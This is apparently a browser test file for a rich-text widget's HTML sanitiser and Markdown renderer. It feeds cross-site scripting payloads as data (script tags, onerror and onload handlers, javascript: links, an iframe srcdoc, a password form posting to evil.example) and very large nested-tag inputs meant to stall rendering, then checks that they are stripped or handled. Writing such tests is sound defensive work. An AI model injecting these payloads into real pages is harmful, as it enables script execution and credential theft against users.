import { expect } from 'chai'
import { isFramedUrl } from '../../../src/widgets/ui/content/framed.tsx'
import { RichText } from '../../../src/widgets/ui/content/rich-text.tsx'
import { setTrustedHtml } from '../../../src/widgets/ui/content/trusted-html.ts'
import { until } from '../support.ts'
import { shareOf } from '../../whole.ts'
import { stage } from './stage.tsx'

/** The sanitised text, as nodes. */
async function cleaned(html: string): Promise<HTMLElement> {
  const place = document.createElement('div')
  await setTrustedHtml(place, html)
  return place
}

const canary = globalThis as { stolen?: boolean }

describe('HTML of administrators', () => {
  for (const [name, html] of Object.entries({
    script: '<script>stolen = true</script><p>text</p>',
    'event handler': '<p><img src="/none.png" onerror="stolen = true" alt="text">text</p>',
    'handler after a slash': '<p>text<img/onerror=stolen=1 src=/none.png></p>',
    svg: '<svg onload="stolen = true"><script>stolen = true</script></svg><p>text</p>',
    frame: '<iframe srcdoc="<script>parent.stolen = true</script>"></iframe><p>text</p>',
    'style element': '<style>p { display: none }</style><p>text</p>',
    'style attribute': '<p style="position:fixed">text</p>',
    form: '<form action="https://evil.example"><input name="password"><button>Go</button></form><p>text</p>',
    'names of ours': '<p class="dialog" id="base" part="base" slot="header">text</p>',
  })) {
    it(`loses ${name} and keeps its text`, async () => {
      const place = await cleaned(html)
      document.body.append(place)
      await new Promise((next) => setTimeout(next, 30))
      const forbidden = place.querySelector(
        'script, svg, iframe, style, form, input, button, [style], [onerror], [onload], [class], [id], [part], [slot]',
      )
      place.remove()
      expect(forbidden === null, place.textContent ?? '').to.equal(true)
      expect(place.textContent).to.include('text')
      expect(canary.stolen).to.equal(undefined)
    })
  }

  it('loses addresses that run code', async () => {
    for (const address of [
      'javascript:alert(1)',
      'JAVASCRIPT:alert(1)',
      ' java\nscript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
    ]) {
      const place = await cleaned(`<a href="${address}">link</a>`)
      expect(place.querySelector('a')?.hasAttribute('href'), address).to.equal(false)
    }
  })

  it('keeps honest links, in a window that cannot reach back', async () => {
    for (const address of ['https://example.com/a?one=1', 'mailto:a@b.example', '/topup', '#part']) {
      const link = (await cleaned(`<a href="${address}">link</a>`)).querySelector('a')
      expect(link?.getAttribute('href')).to.equal(address)
      expect(link?.rel).to.equal('noopener noreferrer')
      expect(link?.target).to.equal('_blank')
    }
  })

  it('shows Markdown, and the HTML in it no more trusted', async () => {
    const { find } = stage(
      <RichText frameTitle="About" text={'# Title\n\n**bold** <img src=x onerror="stolen=1">'} />,
    )
    const shown = await until(() => find('.rich-text'))
    expect(shown.querySelector('h1')?.textContent).to.equal('Title')
    expect(shown.querySelector('strong')?.textContent).to.equal('bold')
    expect(shown.querySelector('img')?.hasAttribute('onerror')).to.equal(false)
  })

  it('frames an https address alone, without storage of our origin', () => {
    expect(isFramedUrl('https://docs.example.com/a')).to.equal(true)
    for (const text of [
      'http://docs.example.com',
      'javascript:alert(1)',
      'https://a.example and more',
      'text',
      'https://',
    ])
      expect(isFramedUrl(text), text).to.equal(false)
  })
})

describe('a text that takes long to display', () => {
  const size = 900_000
  const fill = (part: string, length = size) => part.repeat(Math.ceil(length / part.length))
  const inside = (length: number) => fill('<b>', length)
  /** Fonts that differ, which a browser repeats in every paragraph after them. */
  const fonts = (count: number) =>
    Array.from({ length: count }, (_, index) => `<font size="${index}">`).join('')

  const pages: Record<string, string> = {
    'bold in bold': inside(size),
    'boxes in boxes': fill('<div>'),
    'quotes in quotes': fill('<blockquote>'),
    'tables in tables': fill('<table><tr><td>'),
    'many paragraphs': fill('<p>a'),
    'many links': fill('<a href=x>a</a>'),
    'links in links': fill('<a href=x>a'),
    'fonts in every paragraph': fonts(4000) + fill('<p>a', 200_000),
    'fonts in every paragraph, shorter': fonts(1500) + fill('<p>a', 50_000),
    'ends of nothing': fill('<b></x>'),
    'ends in another order': fill('<b><p></b>'),
    'one very long word': fill('a'),
    'many images': fill('<img alt=a>'),
    'many open angles': fill('<'),
    'many comments': fill('<!--'),
    'many attributes': `<p ${fill('a=b ')}>text</p>`,
    'many entities': fill('&lt;'),
    'lists in lists': fill('<ul><li>'),
    summaries: fill('<details><summary>a'),
    'just below the bounds': fill('<b><p></b>', 90_000),
    'just below the bounds, deep': `${fill('<div>', 900)}${fill('<p>a', 40_000)}`,
  }
  const notes: Record<string, string> = Object.fromEntries(
    [
      '*_a',
      '_a',
      '__a',
      '*a',
      '**a',
      '> ',
      '> - ',
      '1. ',
      '- ',
      '[',
      '![',
      '[a](',
      '[a][',
      '`a',
      '``a',
      '<',
      '<a@',
      '~a',
      '| ',
      '|-|\n',
      'a\n\n',
      '# a\n',
      '- [x] a\n',
      'a\n===\n',
      '[a]: b\n',
      'a@b.c ',
      'http://a ',
      '\\',
      '[^',
      '<b>',
      '<div>\n\n',
    ].flatMap((part) => [5000, 99_000, size].map((length) => [`${part} ${length}`, fill(part, length)])),
  )

  /** The longest time for which the page did nothing else, until the text stands there, ms. */
  async function longestPause(show: () => Promise<Element>): Promise<number> {
    let [last, longest] = [performance.now(), 0]
    const beat = setInterval(() => {
      longest = Math.max(longest, performance.now() - last)
      last = performance.now()
    }, 5)
    const place = await show()
    await new Promise((next) => requestAnimationFrame(() => setTimeout(next, 10)))
    clearInterval(beat)
    longest = Math.max(longest, performance.now() - last)
    place.replaceChildren()
    return longest
  }
  const asHtml = (html: string) => async () => {
    const place = await cleaned(html)
    document.body.append(place)
    return place
  }
  const asMarkdown = (text: string) => () => {
    const { shadow } = stage(<RichText text={text} frameTitle="frame" />)
    return until(() => shadow.querySelector('.rich-text'))
  }

  it('does not stop the page, whatever its tags', async () => {
    const slow: string[] = []
    for (const [name, html] of shareOf(Object.entries(pages), 3)) {
      const pause = await longestPause(asHtml(html))
      if (pause > 2500) slow.push(`${name}: ${Math.round(pause)} ms`)
    }
    expect(slow).to.deep.equal([])
  }).timeout(240_000)

  it('does not stop the page, whatever its Markdown', async () => {
    const slow: string[] = []
    for (const [name, text] of shareOf(Object.entries(notes), 7)) {
      const pause = await longestPause(asMarkdown(text))
      if (pause > 2500) slow.push(`${name}: ${Math.round(pause)} ms`)
    }
    expect(slow).to.deep.equal([])
  }).timeout(240_000)

  it('shows its words still, and an honest long text as it was written', async () => {
    expect((await cleaned(`Hello &amp; <i>welcome</i> ${fill('<b>')}`)).textContent).to.equal(
      'Hello & welcome',
    )
    const table = `<table>${fill('<tr><td>gpt</td><td><b>1</b></td></tr>', 40_000)}</table>`
    expect((await cleaned(table)).querySelectorAll('td b').length).to.equal(1053)
  })
})
